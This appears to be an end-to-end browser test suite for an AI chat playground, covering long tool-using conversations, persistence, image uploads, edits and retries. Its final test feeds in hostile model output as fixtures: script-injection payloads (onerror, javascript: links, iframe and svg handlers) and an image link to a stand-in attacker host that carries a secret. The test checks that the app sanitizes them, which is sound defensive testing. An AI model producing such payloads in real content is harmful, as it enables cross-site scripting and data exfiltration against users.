import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, inject, it } from 'vitest'
import { createFakeUpstream, demoResponder } from '../../src/runtime/testing'
import { launchChromium, openPage, waitForHydration } from '../setup/browser'
import type { BuiltServer } from '../setup/server'
import { startPlayground } from '../setup/playground'

const upstream = createFakeUpstream()
/** A picture of one pixel. */
const DOT = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
let server: BuiltServer
let browser: Browser
const complaints: string[] = []

beforeAll(async () => {
  const { url } = await upstream.listen()
  server = await startPlayground(`${url}/v1`)
  browser = await launchChromium(inject('chromium'))
})

afterEach(() => {
  expect(complaints.splice(0)).toEqual([])
  upstream.clear()
})

afterAll(async () => {
  await browser?.close()
  await server?.close()
  await upstream.close()
})

async function open(path: string): Promise<Page> {
  const page = await openPage(browser, server.url + path)
  page.on('pageerror', error => complaints.push(String(error)))
  return page
}

async function send(page: Page, text: string): Promise<void> {
  const box = page.getByPlaceholder('Say something')
  await box.fill(text)
  await box.press('Enter')
}

/** Waits until so many messages are there and the last of them has settled. */
async function settled(page: Page, messages: number): Promise<void> {
  await expect.poll(() => page.locator('article').count(), { timeout: 20_000 }).toBe(messages)
  await expect.poll(() => page.locator('[data-status]').getAttribute('data-status'), { timeout: 20_000 }).toBe('ready')
}

const shown = (page: Page) => page.locator('article').allInnerTexts()

it('holds a conversation of 40 turns with tools, which survives a reload', async () => {
  upstream.respond = demoResponder({ delay: 0 })
  const page = await open('/chat')
  const turns = ['What is the weather in Oslo?', 'Send a postcard', 'Let me choose a colour', 'Write a poem', 'Show some markdown']
  for (let turn = 0; turn < 40; turn++) {
    const text = turns[turn % turns.length]!
    await send(page, text)
    if (text.includes('postcard')) await page.getByRole('button', { name: turn % 2 ? 'Allow' : 'Decline' }).click()
    if (text.includes('colour')) await page.getByRole('button', { name: 'Green' }).click()
    await settled(page, 2 * (turn + 1))
  }
  const tools = page.locator('.tool-call')
  expect(await tools.count()).toBe(24)
  expect(await tools.evaluateAll(calls => new Set(calls.map(call => (call as HTMLElement).dataset.state)).size)).toBe(2)
  expect(upstream.calls.length).toBe(64)
  expect(await page.evaluate(() => window.scrollY)).toBe(0) // the list follows its answers, the page stays

  const before = await shown(page)
  await page.reload()
  await waitForHydration(page)
  await expect.poll(() => page.locator('article').count(), { timeout: 20_000 }).toBe(80)
  expect(await shown(page)).toEqual(before)

  await send(page, 'echo: still here')
  await settled(page, 82)
  const { messages } = upstream.calls.at(-1)!.body as { messages: { role: string }[] }
  expect(messages.filter(({ role }) => role === 'user')).toHaveLength(41)
  expect(messages.filter(({ role }) => role === 'tool')).toHaveLength(24)
  await page.close()
}, 240_000)

it('keeps a conversation in a database, and renders it on the server', async () => {
  upstream.respond = demoResponder({ delay: 0 })
  const page = await open('/chat/saved')
  await send(page, 'What is the weather in Oslo?')
  await settled(page, 2)
  const before = await shown(page)
  const response = await page.reload()
  expect(await response!.text()).toContain('What is the weather in Oslo?')
  await waitForHydration(page)
  expect(await shown(page)).toEqual(before)

  await page.getByRole('button', { name: 'New chat' }).click()
  await expect.poll(() => page.locator('article').count(), { timeout: 20_000 }).toBe(0)
  await page.reload()
  expect(await page.locator('article').count()).toBe(0)
  await page.context().close()
})

it('sends pictures with the words, and other words when a message is edited', async () => {
  upstream.respond = () => 'I see.'
  const page = await open('/chat')
  await page.setInputFiles('input[type=file]', { name: 'dot.png', mimeType: 'image/png', buffer: Buffer.from(DOT, 'base64') })
  await send(page, 'What is this?')
  await settled(page, 2)
  expect(await page.locator('article img').first().evaluate(image => (image as HTMLImageElement).naturalWidth)).toBe(1)
  expect(upstream.calls[0]!.body).toMatchObject({ messages: [{ content: [
    { type: 'image_url', image_url: { url: `data:image/png;base64,${DOT}` } },
    { type: 'text', text: 'What is this?' },
  ] }] })

  await page.getByRole('button', { name: 'Edit' }).click()
  await page.getByLabel('Your message').fill('And what is that?')
  await page.locator('article').getByRole('button', { name: 'Send' }).click()
  await expect.poll(() => upstream.calls.length, { timeout: 20_000 }).toBe(2)
  expect(upstream.calls[1]!.body).toMatchObject({ messages: [{ content: [{ type: 'image_url' }, { type: 'text', text: 'And what is that?' }] }] })
  await page.context().close()
})

it('shows a failure where it belongs, and tries again', async () => {
  upstream.respond = ({ index }) => index === 0 ? { text: 'So far so good', error: { message: 'Overloaded' } } : 'All good.'
  const page = await open('/chat')
  await page.evaluate(() => localStorage.clear())
  await page.reload()
  await waitForHydration(page)
  await send(page, 'Hello?')
  await page.getByRole('alert').first().waitFor()
  expect((await shown(page))[1]).toContain('So far so good')
  await page.getByRole('button', { name: 'Retry' }).click()
  await settled(page, 2)
  expect((await shown(page))[1]).toContain('All good.')
  expect(await page.getByRole('alert').count()).toBe(0)
  await page.context().close()
})

it('does nothing with HTML and addresses that a model makes up', async () => {
  const evil = [
    'A [good](https://example.com) one, <img src=x onerror="window.evil=1"> <script>window.evil=2</script> <b onclick="window.evil=3">bold</b>',
    '[a](javascript:window.evil=4) [b](JaVaScRiPt:window.evil=5) [c](data:text/html,<script>window.evil=6</script>) [d](vbscript:x) [e](/logout)',
    '<iframe src="javascript:parent.evil=7"></iframe>',
    '![picture](https://evil.example/?secret=1) ![p](javascript:window.evil=8)',
    '<svg onload="window.evil=9"></svg> <javascript:window.evil=10>',
    '::iframe{src="javascript:parent.evil=11"}\n::',
    '**b**{onclick="window.evil=12" style="position:fixed;inset:0"} :button[x]{onclick="window.evil=13"}',
    '# main\n\n[f]: javascript:window.evil=14\n\n[f]',
  ].join('\n\n')
  upstream.respond = () => evil
  const page = await open('/chat')
  await page.evaluate(() => localStorage.clear())
  await page.reload()
  await waitForHydration(page)
  const requests: string[] = []
  page.on('request', request => requests.push(request.url()))
  await send(page, 'Go.')
  await settled(page, 2)

  const answer = page.locator('.markdown')
  expect(await answer.locator('a[href]').evaluateAll(links => links.map(link => [link.getAttribute('href'), link.getAttribute('rel')]))).toEqual([
    ['https://example.com', 'noopener noreferrer'],
    ['https://evil.example/?secret=1', 'noopener noreferrer'],
  ])
  expect(await answer.locator('script, iframe, img, svg, form, button, object, [style], [id], [onclick]').count()).toBe(0)
  for (const link of await answer.locator('a:not([href]), strong, span').all()) await link.dispatchEvent('click')
  expect(await page.evaluate(() => (window as { evil?: number }).evil)).toBeUndefined()
  expect(requests.filter(url => !url.startsWith(server.url))).toEqual([])
  expect(page.url()).toBe(`${server.url}/chat`)
  expect(await answer.textContent()).toContain('window.evil=2')
  await page.context().close()
})
